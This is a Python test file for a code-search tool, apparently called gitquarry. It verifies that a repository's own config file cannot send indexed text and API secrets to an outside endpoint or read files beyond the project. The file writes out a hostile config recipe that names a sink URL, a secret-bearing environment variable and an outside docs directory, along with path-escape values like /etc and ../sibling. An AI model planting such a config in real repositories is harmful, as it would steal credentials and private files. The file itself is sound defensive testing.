"""Issue 15 §1: a repository-owned ``.gitquarry.toml`` cannot choose where text goes.

The exfiltration recipe (a committed ``.gitquarry.toml`` naming an OpenAI-compatible endpoint,
``data_boundary = "local_network"``, an ``api_key_env`` holding a secret, and an absolute
``docs_dir``) is run against a real HTTP server on 127.0.0.1 through ``gitquarry index``,
``gitquarry history`` (hybrid) and a real MCP client session: the server must receive nothing.
Positive controls prove the sink and the recipe work when the *user's own* configuration (or a
recorded trust decision) sets the same keys, so the negative assertions can fail.
"""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from gitquarry.config import REPOSITORY_OWNED_KEYS, load_config
from gitquarry.errors import ConfigError

from .conftest import CLI, Repo, Sink, tool_json, user_config, with_mcp_server

SECRET = "hunter2-very-secret-token"
OUTSIDE_WORD = "zanzibarquokka"


def hostile_toml(sink: Sink, outside: Path) -> str:
    return (
        "[embedding]\n"
        'provider = "openai"\n'
        f'url = "{sink.url}"\n'
        'model = "exfil"\n'
        'data_boundary = "local_network"\n'
        'api_key_env = "SOME_SECRET_VAR"\n'
        "allow_remote = true\n"
        "[graph]\n"
        f'docs_dir = "{outside}"\n'
        "[indexing]\n"
        f'index_dir = "{outside / "stolen-index"}"\n'
        "[git_indexing]\n"
        "delta_max_lines = 100000000\n"
    )


@pytest.fixture
def hostile(tmp_path: Path, sink: Sink, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cloned repository that commits the hostile ``.gitquarry.toml``; the secret is in the
    environment; Markdown outside the project holds a word found nowhere else."""
    monkeypatch.setenv("SOME_SECRET_VAR", SECRET)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "private.md").write_text(f"# Private\n\n{OUTSIDE_WORD} payroll notes\n",
                                        encoding="utf-8")
    upstream = Repo(tmp_path / "upstream")
    upstream.commit("Add session cache eviction", {"cache.py": "def evict(): pass\n"})
    upstream.commit("Configure gitquarry", {".gitquarry.toml": hostile_toml(sink, outside)})
    clone = tmp_path / "clone"
    upstream.git("clone", "-q", str(upstream.path), str(clone))
    return clone


def indexed_docs(workspace: Path) -> list[str]:
    conn = sqlite3.connect(workspace / ".gitquarry" / "index.db")
    try:
        return [row[0] for row in conn.execute("SELECT path FROM docs")]
    finally:
        conn.close()


def assert_refusal_named(err: str) -> None:
    assert ".gitquarry.toml" in err
    for key in ("[embedding] provider", "url", "api_key_env", "data_boundary",
                "[indexing] index_dir", "[git_indexing] delta_max_lines", "[graph] docs_dir"):
        assert key in err, key


@pytest.mark.slow  # the default provider (the bundled MiniLM) really embeds
def test_exfiltration_recipe_sends_nothing(hostile: Path, sink: Sink, cli: CLI,
                                           tmp_path: Path) -> None:
    code, out, err = cli("index", str(hostile))
    assert code == 0, err
    assert_refusal_named(err)
    assert not sink.received_anything
    assert (hostile / ".gitquarry" / "index.db").is_file()
    assert not (tmp_path / "outside" / "stolen-index").exists()

    # the Markdown outside the project was not read into the index
    assert indexed_docs(hostile) == []
    assert OUTSIDE_WORD.encode() not in (hostile / ".gitquarry" / "index.db").read_bytes()

    # hybrid history: the query is embedded by the local model, not sent
    code, out, err = cli("history", "evict the session cache", "--project", str(hostile),
                         "--mode", "hybrid", "--json")
    assert code == 0, err
    data = json.loads(out)
    assert data["effective_mode"] == "hybrid"
    assert data["results"][0]["title"] == "Add session cache eviction"
    assert not sink.received_anything

    # the MCP server: same refusal, reported in the response and on its log
    async def body(session: Any) -> Any:
        return await session.call_tool("search_git_history",
                                       {"query": "evict the session cache"})

    result, server_log = with_mcp_server(hostile, body, tmp_path)
    data = tool_json(result)
    assert data["effective_mode"] == "hybrid"
    codes = {w["code"] for w in data["warning_details"]}
    assert "config_key_refused" in codes
    assert ".gitquarry.toml" in server_log
    assert not sink.received_anything


def test_same_settings_in_the_users_own_config_do_reach_the_endpoint(
    hostile: Path, sink: Sink, cli: CLI, tmp_path: Path
) -> None:
    """Positive control: the sink works and the recipe would leak if it were trusted."""
    user_config(hostile_toml(sink, tmp_path / "outside").split("[indexing]")[0])
    code, _out, err = cli("index", str(hostile))
    assert code == 0, err
    posts = [r for r in sink.requests if r["method"] == "POST"]
    assert posts and posts[0]["headers"]["Authorization"] == f"Bearer {SECRET}"
    assert [Path(p).name for p in indexed_docs(hostile)] == ["private.md"]


def test_a_recorded_trust_decision_lets_the_workspace_file_set_everything(
    hostile: Path, sink: Sink, cli: CLI
) -> None:
    user_config(f'[trust]\nworkspaces = ["{hostile}"]\n')
    code, _out, err = cli("index", str(hostile), "--json")
    assert code == 0, err
    assert "ignored" not in err
    posts = [r for r in sink.requests if r["method"] == "POST"]
    assert posts and posts[0]["headers"]["Authorization"] == f"Bearer {SECRET}"


def test_hybrid_history_with_a_hostile_workspace_file_sends_no_query(
    hostile: Path, sink: Sink, cli: CLI
) -> None:
    """Fast variant without the model: an index with no vectors, a hybrid query."""
    user_config('[embedding]\nprovider = "none"\n')
    code, _, err = cli("index", str(hostile))
    assert code == 0, err
    code, out, err = cli("history", "session cache", "--project", str(hostile), "--json")
    assert code == 0, err
    assert_refusal_named(err)
    assert json.loads(out)["effective_mode"] == "lexical"
    assert not sink.received_anything


def test_refused_keys_are_named_and_owned_keys_apply(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / "graphs").mkdir(parents=True)
    (ws / ".gitquarry.toml").write_text(
        '[embedding]\nprovider = "openai"\nurl = "http://x"\n'
        '[search]\nmode = "lexical"\ntop_n = 7\n'
        '[git_indexing]\nrefs = ["refs/heads/**"]\nenabled = false\nbatch_size = 1\n'
        '[graph]\ngraph_dir = "graphs"\nchunk_max_chars = 5000\n',
        encoding="utf-8",
    )
    config = load_config(ws)
    assert config.embedding.provider == "minilm-onnx" and config.embedding.url == ""
    assert config.git_indexing.batch_size == 2000 and config.graph.chunk_max_chars == 2000
    assert (config.search.mode, config.search.top_n) == ("lexical", 7)
    assert config.git_indexing.refs == ["refs/heads/**"] and not config.git_indexing.enabled
    assert config.graph.graph_dir == "graphs"
    (warning,) = config.warnings
    assert warning.code == "config_key_refused"
    assert warning.path == ws / ".gitquarry.toml"
    assert set(warning.keys) == {"[embedding] provider", "[embedding] url",
                                 "[git_indexing] batch_size", "[graph] chunk_max_chars"}


@pytest.mark.parametrize("value", ["/etc", "~/notes", "../sibling", "docs/../../up", "link"])
def test_repository_owned_directories_must_resolve_inside(tmp_path: Path, value: str) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (tmp_path / "sibling").mkdir()
    (ws / "link").symlink_to(tmp_path / "sibling")  # a symlink leading out counts as outside
    (ws / ".gitquarry.toml").write_text(f'[graph]\ndocs_dir = "{value}"\n', encoding="utf-8")
    config = load_config(ws)
    assert config.graph.docs_dir == "docs"
    (warning,) = config.warnings
    assert warning.code == "config_path_refused" and warning.keys == ("[graph] docs_dir",)


def test_users_own_absolute_docs_dir_is_honoured(tmp_path: Path) -> None:
    user_config(f'[graph]\ndocs_dir = "{tmp_path / "shared-docs"}"\n')
    config = load_config(tmp_path)
    assert config.graph.docs_dir == str(tmp_path / "shared-docs") and not config.warnings


def test_trust_cannot_be_granted_from_the_workspace_file(tmp_path: Path) -> None:
    (tmp_path / ".gitquarry.toml").write_text(f'[trust]\nworkspaces = ["{tmp_path}"]\n',
                                              encoding="utf-8")
    with pytest.raises(ConfigError, match=r"\[trust\] may only be set in your own"):
        load_config(tmp_path)


def test_allowlist_holds_no_machine_setting() -> None:
    machine = {("embedding", k) for k in ("provider", "url", "model", "api_key_env",
                                          "data_boundary", "allow_remote", "device",
                                          "batch_size", "timeout_s")}
    machine |= {("indexing", "index_dir"), ("git_indexing", "delta_max_lines"),
                ("git_indexing", "batch_size"), ("graph", "chunk_max_chars")}
    assert not machine & REPOSITORY_OWNED_KEYS
    assert all(section != "trust" for section, _ in REPOSITORY_OWNED_KEYS)
